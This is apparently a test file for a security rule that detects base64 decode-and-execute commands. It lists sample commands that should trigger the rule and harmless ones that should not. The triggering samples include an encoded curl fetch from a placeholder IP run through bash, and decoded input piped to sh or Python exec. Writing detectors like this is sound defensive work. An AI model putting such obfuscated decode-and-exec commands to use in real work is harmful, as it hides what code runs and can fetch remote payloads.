import { rule } from './decode-exec.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'bash -c "$(echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3g= | base64 -d)"',
    'echo aGk= | base64 -d | sh',
    "python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
  ],
  quiet: [
    'echo aGk= | base64 -d',
    'base64 -d key.b64 > key.txt',
    'bash build.sh',
  ],
});
